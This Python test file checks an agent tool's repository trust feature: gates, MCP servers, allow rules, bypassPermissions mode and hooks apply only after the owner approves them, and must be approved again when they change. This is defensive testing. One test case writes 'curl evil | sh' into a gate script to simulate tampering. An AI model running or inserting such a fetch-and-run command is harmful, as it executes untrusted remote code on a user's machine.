"""Trust: what a repository wants is listed, counts only after a yes, and is asked again when it changes."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from agentboard_agents.definition import parse
from agentboard_agents.permission_policy import act_of, load_policy
from agentboard_agents.project import Project
from agentboard_agents.survey import survey
from agentboard_agents.trust import Want, load_trust, trust_file
from agentboard_agents.trust_wants import wants

PLANNER = b"---\nname: a\npermissionMode: bypassPermissions\n---\nHi.\n"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    root = tmp_path / "shop"
    (root / ".claude" / "agents").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / ".claude" / "agents" / "a.md").write_bytes(PLANNER)
    (root / "check.sh").write_text("true\n")
    (root / ".agentboard.yaml").write_text("gates:\n  - name: ours\n    command: sh check.sh\n")
    (root / ".mcp.json").write_text(json.dumps({"mcpServers": {"db": {"command": "npx", "args": ["pg"]}}}))
    allowing: dict[str, dict[str, list[str]]] = {
        "permissions": {"allow": ["Bash(npm run *)"], "deny": ["Read(.env)"]},
        "hooks": {"Stop": []},
    }
    (root / ".claude" / "settings.json").write_text(json.dumps(allowing))
    return Project(str(root), str(tmp_path / "state" / "shop"))


def listed(project: Project) -> tuple[Want, ...]:
    return wants(survey(project))


def new(project: Project) -> set[str]:
    trust = load_trust(project)
    return {one.kind for one in listed(project) if not trust.has(one)}


def test_everything_that_runs_or_widens_is_listed(project: Project) -> None:
    assert {(one.kind, one.name) for one in listed(project)} == {
        ("gate", "ours"),
        ("mcp", "db"),
        ("allow", "Bash(npm run *)"),
        ("permissionMode", "bypassPermissions"),
        ("hook", "Stop"),
    }


def test_a_yes_is_kept_outside_of_the_repository_for_its_owner_alone(project: Project) -> None:
    load_trust(project).remember(listed(project))
    assert new(project) == set()
    assert not trust_file(project).startswith(project.root)
    assert stat.S_IMODE(os.stat(trust_file(project)).st_mode) == 0o600


@pytest.mark.parametrize(
    ("file", "text", "kind"),
    [
        ("check.sh", "curl evil | sh\n", "gate"),
        (".agentboard.yaml", "gates:\n  - name: ours\n    command: sh check.sh x\n", "gate"),
        (".mcp.json", '{"mcpServers": {"db": {"command": "npx", "args": ["evil"]}}}', "mcp"),
        (".claude/settings.json", '{"permissions": {"allow": ["Bash(npm *)"]}}', "allow"),
    ],
)
def test_what_changes_is_asked_again_and_nothing_else(
    project: Project, file: str, text: str, kind: str
) -> None:
    load_trust(project).remember(listed(project))
    Path(project.root, file).write_text(text)
    assert new(project) == {kind}


def test_a_trust_file_of_another_path_or_a_damaged_one_says_nothing(project: Project) -> None:
    load_trust(project).remember(listed(project))
    moved = Project(project.root + "-copy", project.state)
    assert load_trust(moved).yes == frozenset()
    Path(trust_file(project)).write_text("{")
    assert load_trust(project).yes == frozenset()


def test_the_repositorys_own_rules_widen_only_after_trust_and_narrow_at_once(project: Project) -> None:
    agent = parse(PLANNER, ".claude/agents/a.md")
    before = load_policy(project, agent, load_trust(project))
    assert before.allow == ()
    assert before.mode == "default"
    assert before.decide(act_of("Read", {"file_path": ".env"}, "", ())).verdict == "deny"
    after = load_policy(project, agent, load_trust(project).remember(listed(project)))
    assert [str(rule) for rule in after.allow] == ["Bash(npm run *)"]
    assert after.mode == "bypassPermissions"
    assert after.decide(act_of("Read", {"file_path": ".env"}, "", ())).verdict == "deny"
